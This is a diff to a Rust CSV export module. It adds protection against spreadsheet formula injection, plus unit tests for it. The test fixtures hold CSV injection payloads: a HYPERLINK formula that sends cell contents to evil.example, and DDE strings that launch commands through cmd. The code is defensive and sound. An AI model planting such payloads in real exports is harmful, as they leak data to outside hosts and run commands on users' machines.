@@ -2,6 +2,14 @@
 //! the rows a list shows, every page of them, as one RFC 4180 file written by the `csv` crate
 //! (a header row, fields quoted when they need it, CRLF line ends).
 //!
+//! **No formulas.** A spreadsheet opening the file runs a cell that starts with `=`, `+`, `-`,
+//! `@`, a tab or a carriage return as a formula, and buyers choose some of this text (a
+//! Telegram display name `=HYPERLINK(...)`). Every text cell starting so is written with a
+//! leading `'`, as OWASP's CSV injection advice says, in `encode`, which every export goes
+//! through. A text cell is a field the API shows as a JSON string (names, usernames, gateway
+//! references, statuses, times); numbers (amounts, ids, which may be negative) stay numbers,
+//! written as JSON writes them, so a spreadsheet still adds them up.
+//!
 //! Streamed in constant memory: the rows are read by keyset pages of [`PAGE`] (the list's own
 //! query, `id > after ORDER BY id`), each page on a pool connection taken for that page only,
 //! encoded and handed to the response body before the next is read. A slow client therefore
@@ -43,13 +51,27 @@ pub fn check_window(
     }
 }
 
-/// A JSON field as CSV text: a string as it is, a number or boolean as written in JSON,
-/// `null` as an empty field.
+/// A JSON field as CSV text: a string as [`text_cell`] writes it, a number or boolean as
+/// written in JSON, `null` as an empty field.
 fn field_text(v: Option<&serde_json::Value>) -> String {
     match v {
         None | Some(serde_json::Value::Null) => String::new(),
-        Some(serde_json::Value::String(s)) => s.clone(),
+        Some(serde_json::Value::String(s)) => text_cell(s),
         Some(other) => other.to_string(),
+    }
+}
+
+/// The characters a spreadsheet takes as the start of a formula when a cell begins with them
+/// (OWASP, "CSV Injection").
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell a spreadsheet shows as text: with a leading `'` when it starts with one of
+/// [`FORMULA_STARTS`], as it is otherwise.
+fn text_cell(s: &str) -> String {
+    if s.starts_with(FORMULA_STARTS) {
+        format!("'{s}")
+    } else {
+        s.to_string()
     }
 }
 
@@ -181,5 +203,63 @@ mod tests {
             "id,name,at\r\n1,plain,2025-01-01T10:00:00Z\r\n\
              2,\"a \"\"quoted\"\", comma\nand line\",2025-01-01T10:00:00Z\r\n3,,2025-01-01T10:00:00Z\r\n"
         );
+    }
+
+    #[derive(Serialize)]
+    struct Money {
+        id: i64,
+        name: String,
+        amount_minor: i64,
+    }
+
+    /// The record of one row named `name` with an amount of -500, read back by a CSV reader.
+    fn record_named(name: &str) -> Vec<String> {
+        let row = Money {
+            id: 1,
+            name: name.to_string(),
+            amount_minor: -500,
+        };
+        let bytes = encode(&["id", "name", "amount_minor"], false, &[row]).unwrap();
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(&bytes[..]);
+        let record = reader.records().next().unwrap().unwrap();
+        record.iter().map(str::to_string).collect()
+    }
+
+    /// One test per character a spreadsheet starts a formula with: the text cell gains a
+    /// leading `'`, the number beside it stays a (negative) number.
+    macro_rules! neutralised {
+        ($($test:ident: $name:expr,)*) => {$(
+            #[test]
+            fn $test() {
+                assert_eq!(record_named($name), ["1", &format!("'{}", $name), "-500"]);
+            }
+        )*};
+    }
+
+    neutralised! {
+        a_text_cell_starting_with_equals_is_text: "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+        a_text_cell_starting_with_plus_is_text: "+1+cmd|' /C calc'!A0",
+        a_text_cell_starting_with_minus_is_text: "-2+3+cmd|' /C calc'!A0",
+        a_text_cell_starting_with_at_is_text: "@SUM(1+9)*cmd|' /C calc'!A0",
+        a_text_cell_starting_with_a_tab_is_text: "\t=1+1",
+        a_text_cell_starting_with_a_carriage_return_is_text: "\r=1+1",
+    }
+
+    #[test]
+    fn other_text_and_numbers_stay_as_they_are() {
+        for name in [
+            "Ann",
+            "",
+            "1+1",
+            " =1+1",
+            "a=b",
+            "'quoted",
+            "infinity",
+            "2025-01-01T10:00:00Z",
+        ] {
+            assert_eq!(record_named(name), ["1", name, "-500"], "{name:?}");
+        }
     }
 }
